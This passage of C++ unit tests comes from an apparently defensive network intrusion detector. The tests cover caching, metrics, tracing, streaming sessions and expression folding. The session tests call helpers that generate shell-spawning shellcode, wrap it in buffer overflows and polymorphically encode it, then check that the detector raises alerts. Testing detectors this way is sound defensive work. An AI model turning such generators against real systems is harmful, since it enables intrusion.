                            std::size_t{65}, std::size_t{128}, std::size_t{200}}) {
    cache::Sha256 ctx;
    ctx.update(util::ByteView{data.data(), split});
    ctx.update(util::ByteView{data.data() + split, data.size() - split});
    EXPECT_EQ(ctx.finish(), whole) << "split at " << split;
  }
}

// -------------------------------------------------------------- fingerprint

cache::Digest fingerprint_of(const core::NidsOptions& options) {
  core::NidsEngine engine(options);
  return engine.config_fingerprint();
}

TEST(ConfigFingerprint, StableAcrossIdenticalEngines) {
  EXPECT_EQ(fingerprint_of(core::NidsOptions{}), fingerprint_of(core::NidsOptions{}));
}

TEST(ConfigFingerprint, ChangesWithTemplateSet) {
  core::NidsOptions options;
  core::NidsEngine standard(options);
  core::NidsEngine extended(options, semantic::make_extended_library());
  EXPECT_NE(standard.config_fingerprint(), extended.config_fingerprint());
}

TEST(ConfigFingerprint, ChangesWithVerdictAffectingOptions) {
  const cache::Digest base = fingerprint_of(core::NidsOptions{});

  core::NidsOptions emu;
  emu.enable_emulation = true;
  EXPECT_NE(fingerprint_of(emu), base);

  core::NidsOptions extract_all;
  extract_all.extractor.extract_all = true;
  EXPECT_NE(fingerprint_of(extract_all), base);

  core::NidsOptions budget;
  budget.analyzer.max_total_insns = 1234;
  EXPECT_NE(fingerprint_of(budget), base);
}

TEST(ConfigFingerprint, IgnoresCacheAndThreadingKnobs) {
  // Options that cannot change a unit's verdict must not invalidate the
  // key space: flipping the cache budget or the worker count between
  // deployments should keep keys comparable.
  const cache::Digest base = fingerprint_of(core::NidsOptions{});

  core::NidsOptions tuned;
  tuned.threads = 8;
  tuned.verdict_cache_bytes = 1 << 20;
  tuned.max_queued_units = 4;
  EXPECT_EQ(fingerprint_of(tuned), base);
}

TEST(ConfigFingerprint, HashTemplatesCoversStatementFields) {
  auto lib = semantic::make_standard_library();
  cache::Sha256 a, b;
  cache::hash_templates(a, lib);
  ASSERT_FALSE(lib.empty());
  ASSERT_FALSE(lib[0].stmts.empty());
  lib[0].stmts[0].width = 16;  // verdict-relevant tweak
  cache::hash_templates(b, lib);
  EXPECT_NE(a.finish(), b.finish());
}

// ----------------------------------------------------------- VerdictCache

cache::Digest key_of(std::uint64_t n) {
  return cache::Sha256::hash(util::ByteView{reinterpret_cast<const std::uint8_t*>(&n),
                                            sizeof n});
}

cache::Verdict verdict_of(std::uint64_t n, std::size_t name_len = 16) {
  cache::Verdict v;
  cache::CachedAlert a;
  a.threat = semantic::ThreatClass::kCustom;
  a.template_name = std::string(name_len, static_cast<char>('a' + n % 26));
  a.frame_offset = n;
  v.alerts.push_back(std::move(a));
  v.bytes_analyzed = 100 * n;
  return v;
}

TEST(VerdictCache, MissThenHitRoundTrips) {
  cache::VerdictCache c({1 << 20, 4});
  const cache::Digest k = key_of(7);
  EXPECT_FALSE(c.lookup(k).has_value());
  c.insert(k, verdict_of(7));
  auto got = c.lookup(k);
  ASSERT_TRUE(got.has_value());
  ASSERT_EQ(got->alerts.size(), 1u);
  EXPECT_EQ(got->alerts[0].frame_offset, 7u);
  EXPECT_EQ(got->bytes_analyzed, 700u);

  const auto s = c.stats();
  EXPECT_EQ(s.lookups, 2u);
  EXPECT_EQ(s.hits, 1u);
  EXPECT_EQ(s.misses, 1u);
  EXPECT_EQ(s.insertions, 1u);
  EXPECT_EQ(s.entries, 1u);
}

TEST(VerdictCache, DuplicateInsertKeepsFirstEntry) {
  cache::VerdictCache c({1 << 20, 1});
  const cache::Digest k = key_of(1);
  c.insert(k, verdict_of(1));
  c.insert(k, verdict_of(2));  // racing-worker scenario: first wins
  auto got = c.lookup(k);
  ASSERT_TRUE(got.has_value());
  EXPECT_EQ(got->alerts[0].frame_offset, 1u);
  EXPECT_EQ(c.stats().insertions, 1u);
  EXPECT_EQ(c.stats().entries, 1u);
}

TEST(VerdictCache, ByteBudgetEvictsLeastRecentlyUsed) {
  // One shard so the LRU order is directly observable. Budget sized for
  // only a few entries.
  cache::VerdictCache c({2048, 1});
  std::vector<cache::Digest> keys;
  for (std::uint64_t i = 0; i < 64; ++i) {
    keys.push_back(key_of(i));
    c.insert(keys.back(), verdict_of(i));
  }
  const auto s = c.stats();
  EXPECT_GT(s.evictions, 0u);
  EXPECT_LE(s.bytes, c.byte_budget());
  EXPECT_EQ(s.insertions - s.evictions, s.entries);
  // The most recently inserted key must have survived; the very first
  // must be long gone.
  EXPECT_TRUE(c.lookup(keys.back()).has_value());
  EXPECT_FALSE(c.lookup(keys.front()).has_value());
}

TEST(VerdictCache, LookupRefreshesRecency) {
  cache::VerdictCache c({2048, 1});
  const cache::Digest hot = key_of(1000);
  c.insert(hot, verdict_of(1000));
  for (std::uint64_t i = 0; i < 64; ++i) {
    ASSERT_TRUE(c.lookup(hot).has_value()) << "hot key evicted after " << i << " inserts";
    c.insert(key_of(i), verdict_of(i));
  }
  EXPECT_TRUE(c.lookup(hot).has_value());
}

TEST(VerdictCache, OversizedEntryIsNotAdmitted) {
  cache::VerdictCache c({512, 1});
  const cache::Digest k = key_of(5);
  c.insert(k, verdict_of(5, /*name_len=*/4096));
  EXPECT_FALSE(c.lookup(k).has_value());
  EXPECT_EQ(c.stats().insertions, 0u);
  EXPECT_EQ(c.stats().entries, 0u);
}

TEST(VerdictCache, ClearDropsEverything) {
  cache::VerdictCache c({1 << 20, 4});
  for (std::uint64_t i = 0; i < 32; ++i) c.insert(key_of(i), verdict_of(i));
  EXPECT_GT(c.stats().entries, 0u);
  c.clear();
  EXPECT_EQ(c.stats().entries, 0u);
  EXPECT_EQ(c.stats().bytes, 0u);
  EXPECT_FALSE(c.lookup(key_of(3)).has_value());
}

TEST(VerdictCache, DegenerateBudgetRejectsEverythingSafely) {
  // A budget below any entry's cost caches nothing — every lookup is a
  // miss, no entry is admitted, and nothing crashes.
  cache::VerdictCache c({1, 16});
  const cache::Digest k = key_of(9);
  c.insert(k, verdict_of(9, 4));
  EXPECT_FALSE(c.lookup(k).has_value());
  EXPECT_EQ(c.stats().insertions, 0u);
  EXPECT_EQ(c.stats().bytes, 0u);
}

}  // namespace
}  // namespace senids
