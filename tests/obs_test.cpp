// Observability subsystem tests: sharded counters under concurrency,
// histogram quantile bounds, Prometheus exposition well-formedness,
// tracer output formats, and engine-level agreement between tracer span
// counts and NidsStats on the demo capture.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "core/senids.hpp"
#include "obs/metrics.hpp"
#include "obs/pipeline.hpp"
#include "obs/trace.hpp"

namespace senids::obs {
namespace {

TEST(ObsCounter, ConcurrentIncrementsSumExactly) {
  Counter c;
  constexpr int kThreads = 8;
  constexpr std::uint64_t kPerThread = 100000;
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&c] {
      for (std::uint64_t i = 0; i < kPerThread; ++i) c.add();
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(c.value(), kThreads * kPerThread);
}

TEST(ObsCounter, RuntimeKillSwitchDropsMutations) {
  Counter c;
  set_metrics_enabled(false);
  c.add(5);
  set_metrics_enabled(true);
  c.add(2);
  EXPECT_EQ(c.value(), 2u);
}

TEST(ObsGauge, SetAddSub) {
  Gauge g;
  g.set(10);
  g.add(5);
  g.sub(3);
  EXPECT_EQ(g.value(), 12);
}

TEST(ObsHistogram, CountSumAndQuantileWithinBucketBounds) {
  Histogram h;
  // 900 fast observations and 100 slow ones: p50 must land in the bucket
  // holding 100µs, p95/p99 in the bucket holding 10ms. Bounds are
  // geometric 1µs·2^k, so 100µs falls in (64µs, 128µs] and 10ms in
  // (8.192ms, 16.384ms]; the interpolated estimate may not leave its
  // bucket.
  for (int i = 0; i < 900; ++i) h.observe(100e-6);
  for (int i = 0; i < 100; ++i) h.observe(10e-3);
  const Histogram::Snapshot snap = h.snapshot();
  EXPECT_EQ(snap.count, 1000u);
  EXPECT_NEAR(snap.sum_seconds, 900 * 100e-6 + 100 * 10e-3, 1e-3);
  EXPECT_GE(snap.quantile(0.50), 64e-6);
  EXPECT_LE(snap.quantile(0.50), 128e-6);
  EXPECT_GE(snap.quantile(0.95), 8.192e-3);
  EXPECT_LE(snap.quantile(0.95), 16.384e-3);
  EXPECT_GE(snap.quantile(0.99), 8.192e-3);
  EXPECT_LE(snap.quantile(0.99), 16.384e-3);
}

TEST(ObsHistogram, ConcurrentObservationsCountExactly) {
  Histogram h;
  constexpr int kThreads = 8;
  constexpr int kPerThread = 20000;
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&h] {
      for (int i = 0; i < kPerThread; ++i) h.observe(1e-4);
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(h.snapshot().count, static_cast<std::uint64_t>(kThreads) * kPerThread);
}

TEST(ObsRegistry, FindOrCreateSharesHandles) {
  auto& r = Registry::instance();
  Counter& a = r.counter("senids_test_shared_total", "shared-handle test");
  Counter& b = r.counter("senids_test_shared_total");
  EXPECT_EQ(&a, &b);
  Counter& labelled = r.counter("senids_test_shared_total", "", "k", "v1");
  EXPECT_NE(&a, &labelled);
}

TEST(ObsRegistry, PrometheusExpositionIsWellFormed) {
  // Force full pipeline registration so the exposition covers every
  // stage even with zero samples (a scrape missing a stage reads as a
  // broken deployment).
  (void)pipeline_metrics();
  const std::string text = Registry::instance().prometheus_text();
  for (std::size_t i = 0; i < kStageCount; ++i) {
    const std::string needle = "senids_stage_seconds_bucket{stage=\"" +
                               std::string(stage_name(static_cast<Stage>(i))) + "\",le=\"";
    EXPECT_NE(text.find(needle), std::string::npos) << needle;
  }
  EXPECT_NE(text.find("# TYPE senids_stage_seconds histogram"), std::string::npos);
  EXPECT_NE(text.find("le=\"+Inf\""), std::string::npos);
  EXPECT_NE(text.find("senids_stage_seconds_sum"), std::string::npos);
  EXPECT_NE(text.find("senids_stage_seconds_count"), std::string::npos);
  EXPECT_NE(text.find("# TYPE senids_packets_total counter"), std::string::npos);
  EXPECT_NE(text.find("# TYPE senids_queue_depth gauge"), std::string::npos);

  // Every non-comment line must be "<name>[{labels}] <value>" with a
  // numeric value consuming the whole last token.
  std::size_t start = 0;
  while (start < text.size()) {
    std::size_t end = text.find('\n', start);
    if (end == std::string::npos) end = text.size();
    const std::string line = text.substr(start, end - start);
    start = end + 1;
    if (line.empty() || line[0] == '#') continue;
    const std::size_t space = line.rfind(' ');
    ASSERT_NE(space, std::string::npos) << line;
    const std::string value = line.substr(space + 1);
    char* parse_end = nullptr;
    std::strtod(value.c_str(), &parse_end);
    EXPECT_EQ(*parse_end, '\0') << line;
    const std::string name = line.substr(0, space);
    const std::size_t brace = name.find('{');
    if (brace != std::string::npos) {
      EXPECT_EQ(name.back(), '}') << line;
    }
  }
}

TEST(ObsRegistry, LabelValuesAndHelpAreEscaped) {
  auto& r = Registry::instance();
  // Label values carrying the three characters the exposition format
  // escapes (backslash, double quote, newline) and a HELP string with a
  // literal newline: both must round-trip as single well-formed lines.
  Counter& c = r.counter("senids_test_escape_total", "first\nsecond\\tail", "path",
                         "C:\\dir\n\"quoted\"");
  c.add();
  const std::string text = Registry::instance().prometheus_text();
  EXPECT_NE(text.find("# HELP senids_test_escape_total first\\nsecond\\\\tail"),
            std::string::npos);
  EXPECT_NE(
      text.find("senids_test_escape_total{path=\"C:\\\\dir\\n\\\"quoted\\\"\"} 1"),
      std::string::npos);
  // The escaped series must still be a single physical line: no raw
  // newline may survive inside a sample.
  const std::size_t series = text.find("senids_test_escape_total{");
  ASSERT_NE(series, std::string::npos);
  const std::string line =
      text.substr(series, text.find('\n', series) - series);
  EXPECT_NE(line.find("} 1"), std::string::npos) << line;
}

TEST(ObsRegistry, HistogramBucketsAreCumulative) {
  auto& r = Registry::instance();
  Histogram& h = r.histogram("senids_test_cumulative_seconds", "bucket lint");
  h.observe(1e-6);    // lowest finite bucket
  h.observe(1e-3);
  h.observe(100.0);   // above the top finite bound -> +Inf only
  const std::string text = Registry::instance().prometheus_text();
  // Walk this family's _bucket lines in exposition order; counts must be
  // monotonically non-decreasing and +Inf must equal _count.
  std::uint64_t prev = 0;
  std::uint64_t inf = 0;
  std::size_t pos = 0;
  int buckets = 0;
  while ((pos = text.find("senids_test_cumulative_seconds_bucket{le=\"", pos)) !=
         std::string::npos) {
    const std::size_t space = text.find(' ', pos);
    const std::uint64_t count = std::strtoull(text.c_str() + space + 1, nullptr, 10);
    EXPECT_GE(count, prev) << "buckets must be cumulative";
    prev = count;
    inf = count;
    ++buckets;
    pos = space;
  }
  EXPECT_GT(buckets, 1);
  EXPECT_EQ(inf, 3u) << "+Inf bucket carries every observation";
  EXPECT_NE(text.find("senids_test_cumulative_seconds_count 3"), std::string::npos);
}

TEST(ObsRegistry, JsonExportCarriesQuantiles) {
  auto& r = Registry::instance();
  Histogram& h = r.histogram("senids_test_json_seconds", "json export test");
  h.observe(1e-3);
  const std::string json = Registry::instance().json();
  EXPECT_NE(json.find("\"name\": \"senids_test_json_seconds\""), std::string::npos);
  EXPECT_NE(json.find("\"p50\""), std::string::npos);
  EXPECT_NE(json.find("\"p95\""), std::string::npos);
  EXPECT_NE(json.find("\"p99\""), std::string::npos);
}

/// Counts '{' minus '}' (resp. '[' ']') outside string literals.
void expect_balanced_json(const std::string& text) {
  int braces = 0;
  int brackets = 0;
  bool in_string = false;
  bool escaped = false;
  for (char c : text) {
    if (escaped) {
      escaped = false;
      continue;
    }
    if (c == '\\') {
      escaped = true;
      continue;
    }
    if (c == '"') {
      in_string = !in_string;
      continue;
    }
    if (in_string) continue;
    if (c == '{') ++braces;
    if (c == '}') --braces;
    if (c == '[') ++brackets;
    if (c == ']') --brackets;
    EXPECT_GE(braces, 0);
    EXPECT_GE(brackets, 0);
  }
  EXPECT_FALSE(in_string);
  EXPECT_EQ(braces, 0);
  EXPECT_EQ(brackets, 0);
}

TEST(ObsTracer, ChromeTraceAndJsonlWellFormed) {
  Tracer& tracer = Tracer::instance();
  Tracer::set_enabled(true);
  tracer.reset();
  tracer.record({"extract", 1, 10, 5, 100, 0});
  tracer.record({"disasm", 1, 15, 7, 100, 0});
  Tracer::set_enabled(false);

  ASSERT_EQ(tracer.spans().size(), 2u);
  const std::string chrome = tracer.chrome_trace_json();
  EXPECT_NE(chrome.find("\"traceEvents\""), std::string::npos);
  EXPECT_NE(chrome.find("\"ph\": \"X\""), std::string::npos);
  EXPECT_NE(chrome.find("\"name\": \"extract\""), std::string::npos);
  EXPECT_NE(chrome.find("\"name\": \"disasm\""), std::string::npos);
  expect_balanced_json(chrome);

  const std::string jsonl = tracer.jsonl();
  std::size_t lines = 0;
  std::size_t start = 0;
  while (start < jsonl.size()) {
    std::size_t end = jsonl.find('\n', start);
    if (end == std::string::npos) end = jsonl.size();
    const std::string line = jsonl.substr(start, end - start);
    start = end + 1;
    if (line.empty()) continue;
    ++lines;
    EXPECT_EQ(line.front(), '{') << line;
    EXPECT_EQ(line.back(), '}') << line;
    expect_balanced_json(line);
  }
  EXPECT_EQ(lines, 2u);
  tracer.reset();
}

TEST(ObsTracer, DisabledRecordIsDropped) {
  Tracer& tracer = Tracer::instance();
  Tracer::set_enabled(false);
  tracer.reset();
  tracer.record({"extract", 1, 0, 1, 0, 0});
  EXPECT_TRUE(tracer.spans().empty());
}

// ------------------------------------------------- engine-level agreement

TEST(ObsEngine, SpanCountsMatchEngineStatsOnDemoTrace) {
  auto capture = pcap::read_file(SENIDS_SOURCE_DIR "/demo_trace.pcap");
  ASSERT_TRUE(capture.has_value());

  Registry::instance().reset_values();
  Tracer& tracer = Tracer::instance();
  Tracer::set_enabled(true);
  tracer.reset();

  core::NidsOptions options;
  core::NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(net::Ipv4Addr::from_octets(10, 0, 0, 7));
  nids.classifier().dark_space().add_unused_prefix(
      classify::Prefix{net::Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  core::Report report = nids.process_capture(*capture);
  Tracer::set_enabled(false);

  std::map<std::string, std::size_t> spans_by_stage;
  for (const Span& s : tracer.spans()) ++spans_by_stage[s.name];

  ASSERT_GT(report.stats.units_analyzed, 0u);
  ASSERT_GT(report.stats.analyzer.frames, 0u);
  // One span per stage per analysis unit / frame, matching NidsStats.
  EXPECT_EQ(spans_by_stage["classify"], report.stats.suspicious_packets);
  EXPECT_EQ(spans_by_stage["extract"], report.stats.units_analyzed);
  EXPECT_EQ(spans_by_stage["disasm"], report.stats.analyzer.frames);
  EXPECT_EQ(spans_by_stage["lift"], report.stats.analyzer.frames);
  EXPECT_EQ(spans_by_stage["match"], report.stats.analyzer.frames);
  EXPECT_EQ(spans_by_stage["reassemble"],
            report.stats.stages[static_cast<std::size_t>(Stage::kReassemble)].count);

  // The per-capture stage table agrees with the span counts, and the
  // process-wide registry histograms saw the same executions (registry
  // was reset above, so counts are this capture's alone).
  const auto stage_count = [&report](Stage s) {
    return report.stats.stages[static_cast<std::size_t>(s)].count;
  };
  EXPECT_EQ(stage_count(Stage::kClassify), report.stats.packets);
  EXPECT_EQ(stage_count(Stage::kExtract), report.stats.units_analyzed);
  EXPECT_EQ(stage_count(Stage::kDisasm), report.stats.analyzer.frames);
  PipelineMetrics& pm = pipeline_metrics();
  EXPECT_EQ(pm.stage_seconds[static_cast<std::size_t>(Stage::kExtract)]->count(),
            report.stats.units_analyzed);
  EXPECT_EQ(pm.stage_seconds[static_cast<std::size_t>(Stage::kClassify)]->count(),
            report.stats.packets);

  // Correlation ids: every extract span carries a unit id, and disasm
  // spans reuse ids the extract spans introduced.
  std::vector<std::uint64_t> unit_ids;
  for (const Span& s : tracer.spans()) {
    if (std::string(s.name) == "extract") {
      EXPECT_NE(s.unit_id, 0u);
      unit_ids.push_back(s.unit_id);
    }
  }
  for (const Span& s : tracer.spans()) {
    if (std::string(s.name) == "disasm") {
      EXPECT_NE(std::find(unit_ids.begin(), unit_ids.end(), s.unit_id), unit_ids.end());
    }
  }
  tracer.reset();
}

TEST(ObsEngine, StreamingAndSerialReportSameStageCounts) {
  // The per-stage execution counts are schedule-independent: a 4-worker
  // run must count exactly what the serial run counts.
  auto capture = pcap::read_file(SENIDS_SOURCE_DIR "/demo_trace.pcap");
  ASSERT_TRUE(capture.has_value());
  auto run = [&capture](std::size_t threads) {
    core::NidsOptions options;
    options.threads = threads;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(net::Ipv4Addr::from_octets(10, 0, 0, 7));
    return nids.process_capture(*capture);
  };
  const core::Report serial = run(1);
  const core::Report parallel = run(4);
  for (std::size_t i = 0; i < kStageCount; ++i) {
    EXPECT_EQ(serial.stats.stages[i].count, parallel.stats.stages[i].count)
        << stage_name(static_cast<Stage>(i));
  }
  // Summed per-unit wall exists on both paths once units were analyzed.
  ASSERT_GT(serial.stats.units_analyzed, 0u);
  EXPECT_GT(serial.stats.analysis_seconds, 0.0);
  EXPECT_GT(parallel.stats.analysis_seconds, 0.0);
}

}  // namespace
}  // namespace senids::obs
