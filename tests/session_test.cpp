// Streaming session: incremental feeding must match batch processing.
#include <gtest/gtest.h>

#include "core/senids.hpp"
#include "core/session.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;

const Ipv4Addr kHoneypot = Ipv4Addr::from_octets(10, 0, 0, 7);
const Endpoint kAttacker{Ipv4Addr::from_octets(192, 0, 2, 66), 31337};

pcap::Capture attack_capture(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  auto corpus = gen::make_shell_spawn_corpus();
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(corpus[0].code, tb.prng()));
  auto poly = gen::admmutate_encode(corpus[1].code, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(poly.bytes, tb.prng()));
  for (int i = 0; i < 10; ++i) {
    const Endpoint client{Ipv4Addr::from_octets(198, 51, 100, 9), 40000};
    tb.add_benign(client, Ipv4Addr::from_octets(10, 0, 0, 20),
                  gen::make_benign_payload(tb.prng()));
  }
  return tb.take();
}

TEST(LiveSession, AlertsArriveIncrementally) {
  auto capture = attack_capture(91);
  NidsOptions options;
  NidsEngine engine(options);
  engine.classifier().honeypots().add_decoy(kHoneypot);

  std::vector<Alert> alerts;
  LiveSession session(engine, [&alerts](const Alert& a) { alerts.push_back(a); });
  std::size_t alerts_mid_stream = 0;
  for (std::size_t i = 0; i < capture.records.size(); ++i) {
    session.feed(capture.records[i].data, capture.records[i].ts_sec,
                 capture.records[i].ts_usec);
    if (i == capture.records.size() / 2) alerts_mid_stream = alerts.size();
  }
  session.finish();
  EXPECT_FALSE(alerts.empty());
  // The first flow closes early in the capture: some alert must have
  // arrived before the stream ended.
  EXPECT_GT(alerts_mid_stream, 0u);
}

TEST(LiveSession, MatchesBatchProcessing) {
  auto capture = attack_capture(92);

  NidsOptions options;
  NidsEngine batch_engine(options);
  batch_engine.classifier().honeypots().add_decoy(kHoneypot);
  Report batch = batch_engine.process_capture(capture);

  NidsEngine live_engine(options);
  live_engine.classifier().honeypots().add_decoy(kHoneypot);
  std::vector<Alert> live_alerts;
  LiveSession session(live_engine, [&](const Alert& a) { live_alerts.push_back(a); });
  for (const auto& rec : capture.records) session.feed(rec.data, rec.ts_sec, rec.ts_usec);
  session.finish();

  ASSERT_EQ(live_alerts.size(), batch.alerts.size());
  // Order within the stream differs from the batch's sorted order; compare
  // as multisets of template names.
  auto names = [](std::vector<Alert> v) {
    std::vector<std::string> out;
    for (auto& a : v) out.push_back(a.template_name);
    std::sort(out.begin(), out.end());
    return out;
  };
  EXPECT_EQ(names(live_alerts), names(batch.alerts));
  EXPECT_EQ(session.stats().packets, batch.stats.packets);
  EXPECT_EQ(session.stats().units_analyzed, batch.stats.units_analyzed);
}

TEST(LiveSession, FinishFlushesOpenFlows) {
  // A flow with no FIN only surfaces at finish().
  gen::TraceBuilder tb(93);
  auto exploit = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[2].code, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, exploit);
  auto capture = tb.take();
  capture.records.pop_back();  // drop the FIN

  NidsOptions options;
  NidsEngine engine(options);
  engine.classifier().honeypots().add_decoy(kHoneypot);
  std::vector<Alert> alerts;
  LiveSession session(engine, [&](const Alert& a) { alerts.push_back(a); });
  for (const auto& rec : capture.records) session.feed(rec.data);
  EXPECT_TRUE(alerts.empty());
  session.finish();
  EXPECT_FALSE(alerts.empty());
}

TEST(LiveSession, HandlesFragmentsInline) {
  gen::TraceBuilder tb(94);
  auto exploit = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, exploit);

  NidsOptions options;
  NidsEngine engine(options);
  engine.classifier().honeypots().add_decoy(kHoneypot);
  std::vector<Alert> alerts;
  LiveSession session(engine, [&](const Alert& a) { alerts.push_back(a); });
  for (const auto& rec : tb.capture().records) {
    for (const auto& frag : net::fragment_frame(rec.data, 64)) {
      session.feed(frag);
    }
  }
  session.finish();
  bool shell = false;
  for (const auto& a : alerts) {
    if (a.threat == semantic::ThreatClass::kShellSpawn) shell = true;
  }
  EXPECT_TRUE(shell);
}

TEST(LiveSession, NullSinkIsSafe) {
  NidsOptions options;
  NidsEngine engine(options);
  engine.classifier().honeypots().add_decoy(kHoneypot);
  LiveSession session(engine, nullptr);
  gen::TraceBuilder tb(95);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[0].code, tb.prng()));
  for (const auto& rec : tb.capture().records) session.feed(rec.data);
  session.finish();
  EXPECT_GT(session.stats().units_analyzed, 0u);
}

}  // namespace
}  // namespace senids::core
