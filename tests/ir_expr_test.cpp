#include <gtest/gtest.h>

#include "ir/expr.hpp"
#include "util/prng.hpp"

namespace senids::ir {
namespace {

using arch::RegFamily;

TEST(Expr, ConstFolding) {
  auto e = mk_bin(BinOp::kAdd, mk_const(0x31), mk_const(0x64));
  std::uint32_t v;
  ASSERT_TRUE(is_const(e, &v));
  EXPECT_EQ(v, 0x95u);
}

TEST(Expr, FoldsAllOperators) {
  struct Case {
    BinOp op;
    std::uint32_t a, b, want;
  };
  const Case cases[] = {
      {BinOp::kAdd, 7, 3, 10},
      {BinOp::kSub, 7, 3, 4},
      {BinOp::kXor, 0xff, 0x0f, 0xf0},
      {BinOp::kOr, 0xf0, 0x0f, 0xff},
      {BinOp::kAnd, 0xfc, 0x0f, 0x0c},
      {BinOp::kShl, 1, 4, 16},
      {BinOp::kShr, 16, 4, 1},
      {BinOp::kSar, 0x80000000u, 31, 0xffffffffu},
      {BinOp::kRol, 0x80000001u, 1, 0x00000003u},
      {BinOp::kRor, 0x00000003u, 1, 0x80000001u},
      {BinOp::kMul, 6, 7, 42},
  };
  for (const Case& c : cases) {
    std::uint32_t v = 0;
    ASSERT_TRUE(is_const(mk_bin(c.op, mk_const(c.a), mk_const(c.b)), &v))
        << binop_name(c.op);
    EXPECT_EQ(v, c.want) << binop_name(c.op);
  }
}

TEST(Expr, SubConstNormalizesToAdd) {
  // sub x, 1  ==  add x, -1 : the advance-pattern normalization.
  auto x = mk_init(RegFamily::kAx);
  auto s = mk_bin(BinOp::kSub, x, mk_const(1));
  ASSERT_EQ(s->kind, ExprKind::kBin);
  EXPECT_EQ(s->bop, BinOp::kAdd);
  std::uint32_t v;
  ASSERT_TRUE(is_const(s->rhs, &v));
  EXPECT_EQ(v, 0xffffffffu);
}

TEST(Expr, AddChainFolds) {
  auto x = mk_init(RegFamily::kAx);
  auto e = mk_bin(BinOp::kAdd, mk_bin(BinOp::kAdd, x, mk_const(5)), mk_const(7));
  ASSERT_EQ(e->kind, ExprKind::kBin);
  std::uint32_t v;
  ASSERT_TRUE(is_const(e->rhs, &v));
  EXPECT_EQ(v, 12u);
  EXPECT_TRUE(struct_eq(e->lhs, x));
}

TEST(Expr, IncThenDecCancels) {
  auto x = mk_init(RegFamily::kCx);
  auto e = mk_bin(BinOp::kAdd, mk_bin(BinOp::kAdd, x, mk_const(1)), mk_const(0xffffffffu));
  EXPECT_TRUE(struct_eq(e, x));
}

TEST(Expr, Identities) {
  auto x = mk_init(RegFamily::kBx);
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kAdd, x, mk_const(0)), x));
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kXor, x, mk_const(0)), x));
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kOr, x, mk_const(0)), x));
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kAnd, x, mk_const(0xffffffffu)), x));
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kMul, x, mk_const(1)), x));
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kShl, x, mk_const(0)), x));
}

TEST(Expr, Annihilators) {
  auto x = mk_init(RegFamily::kBx);
  std::uint32_t v;
  ASSERT_TRUE(is_const(mk_bin(BinOp::kAnd, x, mk_const(0)), &v));
  EXPECT_EQ(v, 0u);
  ASSERT_TRUE(is_const(mk_bin(BinOp::kMul, x, mk_const(0)), &v));
  EXPECT_EQ(v, 0u);
  ASSERT_TRUE(is_const(mk_bin(BinOp::kXor, x, x), &v));
  EXPECT_EQ(v, 0u);
  ASSERT_TRUE(is_const(mk_bin(BinOp::kSub, x, x), &v));
  EXPECT_EQ(v, 0u);
}

TEST(Expr, SelfAbsorption) {
  auto x = mk_init(RegFamily::kDx);
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kAnd, x, x), x));
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kOr, x, x), x));
}

TEST(Expr, CommutativeCanonicalization) {
  auto a = mk_init(RegFamily::kAx);
  auto b = mk_init(RegFamily::kBx);
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kXor, a, b), mk_bin(BinOp::kXor, b, a)));
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kAdd, a, b), mk_bin(BinOp::kAdd, b, a)));
  // Constant always lands on the right.
  auto e = mk_bin(BinOp::kXor, mk_const(5), a);
  EXPECT_EQ(e->rhs->kind, ExprKind::kConst);
}

TEST(Expr, NotNotCancels) {
  auto x = mk_init(RegFamily::kAx);
  EXPECT_TRUE(struct_eq(mk_un(UnOp::kNot, mk_un(UnOp::kNot, x)), x));
}

TEST(Expr, UnaryConstFolds) {
  std::uint32_t v;
  ASSERT_TRUE(is_const(mk_un(UnOp::kNot, mk_const(0x0f)), &v));
  EXPECT_EQ(v, 0xfffffff0u);
  ASSERT_TRUE(is_const(mk_un(UnOp::kNeg, mk_const(1)), &v));
  EXPECT_EQ(v, 0xffffffffu);
}

TEST(Expr, CoveringMaskOnLoadDrops) {
  auto load8 = mk_load(mk_init(RegFamily::kAx), 8, 0);
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kAnd, load8, mk_const(0xff)), load8));
  // A narrower mask stays.
  auto masked = mk_bin(BinOp::kAnd, load8, mk_const(0x0f));
  EXPECT_EQ(masked->kind, ExprKind::kBin);
}

TEST(Expr, ValueBitsPropagation) {
  auto load8 = mk_load(mk_init(RegFamily::kAx), 8, 0);
  EXPECT_EQ(load8->value_bits, 8);
  auto x = mk_bin(BinOp::kXor, load8, mk_const(0x95));
  EXPECT_EQ(x->value_bits, 8);
  // And with the covering mask of a computed 8-bit value is dropped.
  EXPECT_TRUE(struct_eq(mk_bin(BinOp::kAnd, x, mk_const(0xff)), x));
}

TEST(Expr, SubRegisterMergeReadsBack) {
  // Writing BL over unknown EBX then reading BL must give back the byte:
